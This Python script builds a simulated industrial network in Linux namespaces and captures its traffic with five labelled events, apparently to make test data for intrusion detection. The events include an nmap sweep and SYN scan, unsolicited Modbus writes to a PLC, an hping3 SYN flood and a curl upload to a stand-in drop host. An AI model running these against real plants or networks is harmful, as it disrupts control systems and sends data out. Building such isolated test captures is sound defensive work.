#!/usr/bin/env python3
"""A small plant in network namespaces, its normal life, five events, and the capture of it all.

Every frame on the wire comes from a real program (README.md names them). Each device is a namespace with
one veth on a bridge; each port's ingress is mirrored once to a veth on which tcpdump listens, so each
frame is captured once, with the sender's own MAC and true checksums (offloads are off). Nothing leaves
the namespaces. All processes, namespaces and files under /etc/netns are removed at exit.
"""
import argparse
import atexit
import csv
import gzip
import json
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass

HERE = os.path.dirname(os.path.abspath(__file__))
PYTHON, PROGRAMS = sys.executable, os.path.join(HERE, "programs.py")
NET, LAN = "10.20.30.", "plant.lan"


@dataclass
class Device:
    name: str
    mac: str
    ip: str           # filled at join for a device that takes what DHCP gives
    vendor: str       # as the IEEE list has it for this OUI
    role: str
    dhcp: str = ""    # udhcpc, dhclient, or "" for a fixed address
    vendor_class: str = ""
    ipv6: bool = False
    ttl: int = 64


def sensor(n, what, mac):
    return Device(f"sensor-{what}", mac, f"{NET}{100 + n}", "Espressif Inc.", "MQTT sensor", "udhcpc", "ESP32")


GW = Device("gw", "00:1e:42:3a:10:01", NET + "1", "Teltonika", "router, DHCP and DNS server")
SRV = Device("edge-server", "94:18:82:5c:20:10", NET + "10", "Hewlett Packard Enterprise",
             "MQTT broker, video recorder, dashboard", ipv6=True)
PLC1 = Device("plc-filler", "28:63:36:aa:30:21", NET + "21", "Siemens AG", "PLC, Modbus/TCP server")
PLC2 = Device("plc-conveyor", "00:01:05:4b:30:22", NET + "22", "Beckhoff Automation GmbH", "PLC, Modbus/TCP server")
HMI = Device("hmi-line1", "f8:b1:56:7d:40:31", NET + "31", "Dell Inc.",
             "operator panel: polls both PLCs, writes setpoints to plc-filler", "dhclient", "MSFT 5.0", True, 128)
HIST = Device("historian", "3c:ec:ef:12:40:32", NET + "32", "Super Micro Computer, Inc.",
              "historian: reads both PLCs and all MQTT topics, never writes")
SENSORS = [sensor(1, "temp-1", "a4:cf:12:6e:50:01"), sensor(2, "temp-2", "a4:cf:12:6e:50:02"),
           sensor(3, "vibration", "24:0a:c4:91:50:03"), sensor(4, "level", "30:ae:a4:2b:50:04"),
           sensor(5, "door", "84:f3:eb:77:50:05")]
CAM = Device("axis-cam-dock", "ac:cc:8e:d4:60:20", NET + "120", "Axis Communications AB", "camera",
             "udhcpc", "AXIS,Network Camera,P3265-LVE,11.8.61")
LAPTOP = Device("ENG-LAPTOP", "8c:16:45:e3:70:50", NET + "150", "LCFC(Hefei) Electronics Technology co., ltd",
                "engineering laptop (Lenovo)", "dhclient", "MSFT 5.0", True, 128)
PI = Device("raspberrypi", "d8:3a:dd:0f:80:99", "", "Raspberry Pi Trading Ltd", "unknown newcomer",
            "dhclient", "dhcpcd-9.4.1:Linux-6.1.21-v8+:aarch64:BCM2835", True)
PLANT = [GW, SRV, PLC1, PLC2, HMI, HIST, *SENSORS, CAM, LAPTOP]

# Outside, behind the router. Names end in .example, addresses are of the documentation ranges.
NTP, CLOUD, NEWS, PACKAGES, DROP = ("0.pool.ntp.example", "fw.sensorcloud.example", "www.news.example",
                                    "packages.os.example", "files.dropshare.example")
OUTSIDE = {NTP: "203.0.113.10", CLOUD: "203.0.113.20", NEWS: "203.0.113.30", PACKAGES: "203.0.113.31",
           DROP: "198.51.100.77"}

HEADERS = 66  # Ethernet, IPv4, TCP with timestamps
WHOLE_PORTS = {53, 67, 68, 123, 502, 1883, 5353}

DHCP_SCRIPT = """#!/bin/sh
# For udhcpc (bound, ip, mask) and dhclient (BOUND, new_ip_address): take the address and the route.
case "${1:-$reason}" in
bound|BOUND|REBOOT)
    a=${ip:-$new_ip_address}; r=${router:-$new_routers}
    ip addr flush dev eth0 scope global
    ip -4 addr add "$a/24" brd + dev eth0 && ip route replace default via "${r%% *}" ;;
PREINIT) ip link set eth0 up ;;
esac
exit 0
"""


class Lab:
    """The namespaces and programs of one run; close() removes them all, and is safe twice."""

    def __init__(self, prefix):
        self.prefix, self.spaces, self.programs, self.capture = prefix, [], [], None
        self.dir = tempfile.mkdtemp(prefix="monban-lab-")
        os.chmod(self.dir, 0o755)
        atexit.register(self.close)
        self.script = self.write("dhcp.sh", DHCP_SCRIPT, 0o755)

    def write(self, name, text, mode=0o644):
        path = os.path.join(self.dir, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        os.chmod(path, mode)
        return path

    def ns(self, name):
        return self.prefix + name.lower()

    def space(self, name, ipv6=False, etc=None):
        """Makes a namespace with its own files in /etc; this machine's own name never reaches the plant's DNS."""
        ns = self.ns(name)
        if ns in subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout.split():
            sys.exit(f"lab: namespace {ns} is there already: another run goes on, or one was killed "
                     f"(then: ip netns delete {ns}; rm -r /etc/netns/{ns}), or choose another --prefix")
        run("ip", "netns", "add", ns)
        self.spaces.append(ns)
        files = {"resolv.conf": f"nameserver {GW.ip}\nsearch {LAN}\n", "nsswitch.conf": "hosts: files dns\n",
                 "hosts": f"127.0.0.1 localhost\n127.0.1.1 {socket.gethostname()}\n", **(etc or {})}
        for path, text in files.items():
            path = os.path.join("/etc/netns", ns, path)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(text)
        off = "0" if ipv6 else "1"
        run("ip", "netns", "exec", ns, "sysctl", "-qw", f"net.ipv6.conf.all.disable_ipv6={off}",
            f"net.ipv6.conf.default.disable_ipv6={off}")
        run("ip", "-n", ns, "link", "set", "lo", "up")
        return ns

    def switch(self, pcap):
        """The bridge, the mirror, and tcpdump on the mirror's far end."""
        ns = self.space("switch")
        run("ip", "-n", ns, "link", "add", "br0", "type", "bridge", "stp_state", "0", "mcast_snooping", "0")
        run("ip", "-n", ns, "link", "add", "mirror", "type", "veth", "peer", "name", "tap")
        for link in ("br0", "mirror", "tap"):
            run("ip", "-n", ns, "link", "set", link, "up")
        log = open(os.path.join(self.dir, "tcpdump.log"), "w+")
        self.capture = self.start("switch", "tcpdump", "-Z", "root", "-n", "-i", "tap", "-s", "0", "-B", "8192",
                                  "-U", "-w", pcap, out=log)
        wait_for(lambda: os.path.exists(pcap), 10, "tcpdump did not start")

    def stop_capture(self):
        """Ends tcpdump; returns its own count of dropped packets as text."""
        time.sleep(1)
        self.capture.send_signal(signal.SIGINT)
        self.capture.wait(20)
        with open(os.path.join(self.dir, "tcpdump.log")) as f:
            return " ".join(line.strip() for line in f if "packets" in line)

    def plug(self, d, etc=None):
        """Makes the device's namespace and its cable; the link is up afterwards, a fixed address is set."""
        ns, port, switch = self.space(d.name, d.ipv6, etc), "p-" + d.mac[-5:].replace(":", ""), self.ns("switch")
        run("ip", "-n", switch, "link", "add", port, "type", "veth", "peer", "name", "eth0", "netns", ns)
        run("ip", "-n", ns, "link", "set", "eth0", "address", d.mac)
        run("ip", "netns", "exec", ns, "sysctl", "-qw", f"net.ipv4.ip_default_ttl={d.ttl}",
            "net.ipv4.conf.all.send_redirects=0", "net.ipv4.conf.eth0.send_redirects=0")
        for space, link in ((ns, "eth0"), (switch, port)):
            run("ip", "netns", "exec", space, "ethtool", "-K", link,
                "tx", "off", "sg", "off", "tso", "off", "gso", "off", "gro", "off")
        run("tc", "-n", switch, "qdisc", "add", "dev", port, "ingress")
        run("tc", "-n", switch, "filter", "add", "dev", port, "parent", "ffff:", "protocol", "all",
            "u32", "match", "u32", "0", "0", "action", "mirred", "egress", "mirror", "dev", "mirror")
        run("ip", "-n", switch, "link", "set", port, "master", "br0", "up")
        if not d.dhcp:
            run("ip", "-n", ns, "addr", "add", d.ip + "/24", "brd", "+", "dev", "eth0")
        run("ip", "-n", ns, "link", "set", "eth0", "up")
        if not d.dhcp and d is not GW:
            run("ip", "-n", ns, "route", "add", "default", "via", GW.ip)

    def lease(self, d):
        """Starts the device's DHCP client and waits for its address."""
        if d.dhcp == "udhcpc":
            self.start(d.name, "udhcpc", "-f", "-i", "eth0", "-s", self.script, "-x", "hostname:" + d.name,
                       "-V", d.vendor_class, "-t", "5", "-T", "2")
        else:
            conf = self.write(f"{d.name}/dhclient.conf", f'send host-name "{d.name}";\n'
                              f'send vendor-class-identifier "{d.vendor_class}";\n'
                              "request subnet-mask, routers, domain-name-servers, domain-name;\ntimeout 20;\n")
            at = os.path.dirname(conf)
            self.start(d.name, "dhclient", "-4", "-d", "-cf", conf, "-sf", self.script,
                       "-lf", at + "/leases", "-pf", at + "/pid", "eth0")

        def address():
            out = subprocess.run(["ip", "-n", self.ns(d.name), "-4", "-j", "addr", "show", "eth0"],
                                 capture_output=True, text=True, check=True).stdout
            return [a["local"] for link in json.loads(out) for a in link.get("addr_info", [])]
        wait_for(address, 25, f"{d.name} got no DHCP lease")
        d.ip = address()[0]

    def start(self, name, *command, out=None):
        """Starts a program in a device's namespace, in a process group of its own."""
        out = out or open(os.path.join(self.dir, f"{self.ns(name)}.log"), "a")
        p = subprocess.Popen(["ip", "netns", "exec", self.ns(name), *command], stdin=subprocess.DEVNULL,
                             stdout=out, stderr=subprocess.STDOUT, start_new_session=True, cwd=self.dir)
        self.programs.append(p)
        return p

    def shell(self, name, script):
        return self.start(name, "sh", "-c", script)

    def python(self, name, *arguments):
        return self.start(name, PYTHON, PROGRAMS, *map(str, arguments))

    def ntp(self, name):
        """A chronyd that asks every 32 s and never touches the clock (-x)."""
        self.start(name, "chronyd", "-d", "-x", "-u", "root", f"server {NTP} iburst minpoll 5 maxpoll 5",
                   "cmdport 0", "bindcmdaddress /", f"pidfile {self.dir}/{self.ns(name)}.ntp.pid")

    def avahi(self, name):
        conf = self.write(f"{name}/avahi.conf", f"[server]\nhost-name={name}\nallow-interfaces=eth0\n"
                          "enable-dbus=no\nuse-ipv6=no\n[publish]\npublish-hinfo=no\npublish-workstation=no\n")
        self.shell(name, "mount -t tmpfs tmpfs /run && exec avahi-daemon --no-drop-root --no-chroot --no-rlimits "
                   f"-f {conf}")

    def close(self):
        for p in self.programs:
            try:
                os.killpg(p.pid, signal.SIGTERM)
            except ProcessLookupError:
                pass
        time.sleep(0.5)
        for ns in self.spaces:
            pids = subprocess.run(["ip", "netns", "pids", ns], capture_output=True, text=True).stdout.split()
            for pid in pids:
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except ProcessLookupError:
                    pass
            subprocess.run(["ip", "netns", "delete", ns])
            shutil.rmtree(os.path.join("/etc/netns", ns), ignore_errors=True)
        self.programs, self.spaces = [], []
        shutil.rmtree(self.dir, ignore_errors=True)


def run(*command):
    done = subprocess.run(command, capture_output=True, text=True)
    if done.returncode:
        sys.exit(f"lab: {' '.join(command)}: {done.stderr.strip() or done.stdout.strip()}")


def wait_for(condition, seconds, complaint):
    end = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > end:
            sys.exit(f"lab: {complaint} within {seconds} s")
        time.sleep(0.1)


def service(kind, port, title):
    """An avahi service file."""
    return {f"avahi/services/{kind}.service": '<?xml version="1.0"?><!DOCTYPE service-group SYSTEM '
            f'"avahi-service.dtd"><service-group><name>{title}</name><service><type>_{kind}._tcp</type>'
            f"<port>{port}</port></service></service-group>"}


def outside(lab):
    """What is behind the router: an NTP server and web sites, on public-looking addresses."""
    wan = lab.space("wan")
    run("ip", "-n", wan, "link", "add", "eth0", "type", "veth", "peer", "name", "wan0", "netns", lab.ns(GW.name))
    for address in OUTSIDE.values():
        run("ip", "-n", wan, "addr", "add", address + "/32", "dev", "lo")
    run("ip", "-n", wan, "addr", "add", "100.64.0.1/30", "dev", "eth0")
    run("ip", "-n", lab.ns(GW.name), "addr", "add", "100.64.0.2/30", "dev", "wan0")
    run("ip", "-n", wan, "link", "set", "eth0", "up")
    run("ip", "-n", lab.ns(GW.name), "link", "set", "wan0", "up")
    run("ip", "-n", wan, "route", "add", NET + "0/24", "via", "100.64.0.2")
    run("ip", "-n", lab.ns(GW.name), "route", "add", "default", "via", "100.64.0.1")
    run("ip", "netns", "exec", lab.ns(GW.name), "sysctl", "-qw", "net.ipv4.ip_forward=1")
    key, cert = os.path.join(lab.dir, "key.pem"), os.path.join(lab.dir, "cert.pem")
    run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
        "-days", "30", "-subj", "/CN=lab.example", "-keyout", key, "-out", cert)
    lab.start("wan", "chronyd", "-d", "-x", "-u", "root", "local stratum 2", "allow all", "cmdport 0",
              "bindcmdaddress /", f"pidfile {lab.dir}/wan.ntp.pid")
    lab.python("wan", "web", cert, key)


def router(lab):
    lab.plug(GW)
    fixed = [f"host-record={d.name.lower()}.{LAN},{d.ip}" for d in PLANT if not d.dhcp]
    names = [f"host-record={name},{ip}" for name, ip in OUTSIDE.items()]
    leases = [f"dhcp-host={d.mac},{d.ip},{d.name}" for d in PLANT if d.dhcp]
    conf = lab.write("dnsmasq.conf", "\n".join([
        "user=root", "interface=eth0", "except-interface=lo", "bind-interfaces", "no-resolv", "no-hosts",
        f"domain={LAN}", f"local=/{LAN}/", "local=/example/", "local=/in-addr.arpa/", "dhcp-authoritative",
        f"dhcp-range={NET}200,{NET}220,255.255.255.0,10m", f"dhcp-leasefile={lab.dir}/leases",
        f"cname=broker.{LAN},edge-server.{LAN}", f"cname=recorder.{LAN},edge-server.{LAN}",
        *fixed, *names, *leases]) + "\n")
    lab.start(GW.name, "dnsmasq", "-k", "-C", conf, "--pid-file=")


def servers(lab):
    lab.plug(SRV, service("http", 80, "Line 1 dashboard"))
    lab.start(SRV.name, "mosquitto", "-c", lab.write("mosquitto.conf", "listener 1883 0.0.0.0\nallow_anonymous true\n"
                                                     "user root\npersistence false\nlog_type error\n"))
    lab.python(SRV.name, "web")
    lab.start(SRV.name, "socat", "-u", "UDP-RECV:5004", "OPEN:/dev/null")
    lab.avahi(SRV.name)
    for plc in (PLC1, PLC2):
        lab.plug(plc)
        lab.python(plc.name, "plc", 200)
    time.sleep(3)


def clients(lab):
    """Everyone else boots: all have an address and talk within about 15 seconds."""
    lab.ntp(SRV.name)
    for host in (GW, PLC1, PLC2):
        lab.start(SRV.name, "ping", "-q", "-i", "30", host.ip)
    lab.plug(HIST)
    lab.python(HIST.name, "historian", 5, f"{PLC1.name}.{LAN}", f"{PLC2.name}.{LAN}")
    lab.shell(HIST.name, f"exec mosquitto_sub -h broker.{LAN} -i historian -t 'plant/#' >/dev/null")
    lab.ntp(HIST.name)
    lab.plug(HMI)
    lab.lease(HMI)
    lab.python(HMI.name, "hmi", f"{PLC1.name}.{LAN}", 1, 0, 20, 45)
    lab.python(HMI.name, "hmi", f"{PLC2.name}.{LAN}", 2, 0, 10, 0)
    lab.ntp(HMI.name)
    for n, d in enumerate(SENSORS):
        lab.plug(d)
        lab.lease(d)
        topic, reading = f"plant/line1/{d.name[7:]}", f'{{"id":"{d.name}","value":%d.%02d}}'
        if n < 4:  # one session for good
            lab.shell(d.name, f"i={n}; while :; do i=$((i+7)); printf '{reading}\\n' $((20+i%5)) $((i%100)); "
                      f"sleep {n + 2}; done | mosquitto_pub -h broker.{LAN} -i {d.name} -t {topic} -q {n % 2} -k 60 -l")
        else:  # a new connection for each message
            lab.shell(d.name, f"while :; do mosquitto_pub -h broker.{LAN} -i {d.name} -t {topic} "
                      f"-m '{{\"id\":\"{d.name}\",\"open\":0}}'; sleep 5; done")
        # Clock and firmware check, as small devices do it: each by itself, every two minutes or so.
        lab.shell(d.name, f"sleep {n}; while :; do chronyd -Q -x -u root -t 8 'server {NTP} iburst maxsamples 1' "
                  f"'cmdport 0' 'bindcmdaddress /' 'pidfile {lab.dir}/{d.name}.ntp.pid'; sleep 3; "
                  f"curl -sk -o /dev/null https://{CLOUD}/manifest-6; sleep {85 + 3 * n}; done")
    lab.plug(CAM, {**service("axis-video", 554, "AXIS P3265-LVE dock"), **service("http", 80, "AXIS P3265-LVE")})
    lab.lease(CAM)
    lab.python(CAM.name, "web")
    lab.python(CAM.name, "camera", f"recorder.{LAN}", 5004)
    lab.ntp(CAM.name)
    lab.avahi(CAM.name)
    lab.shell(SRV.name, f"sleep 2; while :; do curl -s -o /dev/null http://{CAM.name}.{LAN}/snapshot-20; sleep 30; done")
    lab.plug(LAPTOP)
    lab.lease(LAPTOP)
    lab.ntp(LAPTOP.name)
    lab.shell(LAPTOP.name, f"while :; do for u in http://{SRV.name}.{LAN}/line-40 https://{NEWS}/page-90 "
              f"http://{PACKAGES}/index-25; do curl -sk -o /dev/null $u; sleep 12; done; done")
    lab.python(LAPTOP.name, "browse", 60)


def newcomer(lab):
    lab.plug(PI)
    lab.lease(PI)
    lab.ntp(PI.name)
    lab.avahi(PI.name)
    lab.shell(PI.name, f"while :; do curl -s -o /dev/null http://{PACKAGES}/release-4; sleep 2; "
              f"curl -s -o /dev/null http://{PACKAGES}/index-25; sleep 28; done")
    time.sleep(6)


def scan(lab):
    to_end(lab.start(LAPTOP.name, "nmap", "-sn", NET + "0/24"))
    to_end(lab.start(LAPTOP.name, "nmap", "-sS", "-n", "-Pn", "--top-ports", "200", "--max-retries", "1",
                     SRV.ip, PLC1.ip, CAM.ip))


def ot_write(lab):
    to_end(lab.python(HIST.name, "write", f"{PLC1.name}.{LAN}", 100, 1500, 6, 2))


def flood(lab):
    to_end(lab.start(SENSORS[2].name, "hping3", "-q", "-n", "-S", "-p", "1883", "-i", "u2500", "-c", "4000", SRV.ip))


def upload(lab):
    size = 7_000_000
    run("truncate", "-s", str(size), os.path.join(lab.dir, "archive.bin"))
    to_end(lab.start(CAM.name, "curl", "-sk", "--limit-rate", "400k", "-T", os.path.join(lab.dir, "archive.bin"),
                     f"https://{DROP}/in/archive.bin"))


def to_end(program):
    """Waits for a program of an event; hping3 says 1 when replies were lost, which a flood may bring."""
    code = program.wait(120)
    if code and "hping3" not in program.args:
        sys.exit(f"lab: {' '.join(program.args)} ended with {code}")


EVENTS = [
    (newcomer, "new-device", PI, [], "dhclient, chronyd, avahi-daemon, curl",
     "a Raspberry Pi is plugged in: DHCP, DNS, NTP, mDNS, a little web; nothing malicious; stays to the end"),
    (scan, "scan", LAPTOP, [SRV, PLC1, CAM], "nmap",
     "the known engineering laptop: ARP sweep of the /24, then a SYN scan of 200 ports on three devices"),
    (ot_write, "ot-write", HIST, [PLC1], "pymodbus",
     "the historian, which only read so far, writes register 100 six times (function 6) over a new connection"),
    (flood, "flood", SENSORS[2], [SRV], "hping3",
     "4000 SYNs, about 400 a second, to the broker's port 1883 from the sensor's own address"),
    (upload, "exfiltration", CAM, [], "curl",
     f"7 MB by HTTPS PUT to {DROP} ({OUTSIDE[DROP]}), a name and address that nobody used before"),
]


def keep(data, seen):
    """How many of a packet's bytes to keep: all, or of bulk (README, "What is cut") the headers."""
    if len(data) <= HEADERS or data[12:14] != b"\x08\x00" or data[23] not in (6, 17):
        return len(data)
    at = 14 + (data[14] & 15) * 4
    ports = struct.unpack("!HH", data[at:at + 4])
    if WHOLE_PORTS & set(ports):
        return len(data)
    if 443 in ports:  # of TLS what is in clear: the ClientHello, and the ServerHello before what is encrypted
        payload = at + (data[at + 12] >> 4) * 4
        hello = data[payload:payload + 1] == b"\x16" and data[payload + 5:payload + 6] in (b"\x01", b"\x02")
        return HEADERS if not hello else len(data) if ports[1] == 443 else 200
    key = frozenset({(data[26:30], ports[0]), (data[30:34], ports[1])})
    seen[key] = seen.get(key, 0) + 1
    return len(data) if seen[key] <= 20 else HEADERS


def trim(source, target):
    """Copies a little-endian pcap to a gzip, in the order of time and without the bulk of payloads.

    Two CPUs now and then hand tcpdump two packets in the wrong order, by some microseconds.
    Returns packets, cut packets, and the time from the first to the last in seconds.
    """
    packets, seen, cut = [], {}, 0
    with open(source, "rb") as f:
        header = f.read(24)
        if header[:4] != b"\xd4\xc3\xb2\xa1":
            sys.exit(f"lab: {source} is not a little-endian pcap with microseconds")
        while len(head := f.read(16)) == 16:
            sec, usec, length, wire = struct.unpack("<IIII", head)
            packets.append((sec, usec, wire, f.read(length)))
    packets.sort(key=lambda packet: packet[:2])
    with open(target, "wb") as raw, gzip.GzipFile("", "wb", 9, raw, mtime=0) as out:
        out.write(header)
        for sec, usec, wire, data in packets:
            n = keep(data, seen)
            cut += n < len(data)
            out.write(struct.pack("<IIII", sec, usec, n, wire) + data[:n])
    return len(packets), cut, packets[-1][0] - packets[0][0]


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--out", default=HERE, help="folder for the three files (default: beside this script)")
    p.add_argument("--normal", type=float, default=780, help="seconds of normal life before the first event")
    p.add_argument("--gap", type=float, default=60, help="seconds between two events")
    p.add_argument("--tail", type=float, default=75, help="seconds after the last event")
    p.add_argument("--prefix", default="monban-", help="start of the namespaces' names")
    a = p.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit("lab: stopped"))
    os.makedirs(a.out, exist_ok=True)

    lab = Lab(a.prefix)
    pcap = os.path.join(lab.dir, "all.pcap")
    began = time.monotonic()

    def say(text):
        print(f"{time.monotonic() - began:7.1f} s  {text}", flush=True)

    lab.switch(pcap)
    router(lab)
    outside(lab)
    servers(lab)
    clients(lab)
    say("every device is up")
    time.sleep(a.normal)
    truth = []
    for n, (act, kind, actor, victims, tool, description) in enumerate(EVENTS, 1):
        if n > 1:
            time.sleep(a.gap)
        say(f"{kind} by {actor.name}")
        start = time.time()
        act(lab)
        truth.append([n, f"{start:.3f}", f"{time.time():.3f}", kind, actor.mac, actor.ip, actor.name,
                      ";".join(v.ip for v in victims) if victims else OUTSIDE[DROP] if act is upload else "",
                      tool, description])
    time.sleep(a.tail)
    dead = [q.args[3:] for q in lab.programs if q.poll() not in (None, 0) and "hping3" not in q.args]
    counts = lab.stop_capture()
    packets, cut, seconds = trim(pcap, os.path.join(a.out, "demo.pcap.gz"))
    for name, head, rows in (
            ("truth.csv", "id,start_unix,end_unix,class,actor_mac,actor_ip,actor_name,victim,tool,description", truth),
            ("devices.csv", "mac,ip,name,vendor,role",
             [[d.mac, d.ip, d.name, d.vendor, d.role] for d in [*PLANT, PI]])):
        with open(os.path.join(a.out, name), "w", newline="") as f:
            w = csv.writer(f, lineterminator="\n")
            w.writerow(head.split(","))
            w.writerows(rows)
    say(f"{packets} packets, {cut} cut, {seconds:.0f} s; tcpdump: {counts}")
    lab.close()
    if dead:
        sys.exit(f"lab: ended before their time, so the capture is not whole: {dead}")


if __name__ == "__main__":
    main()
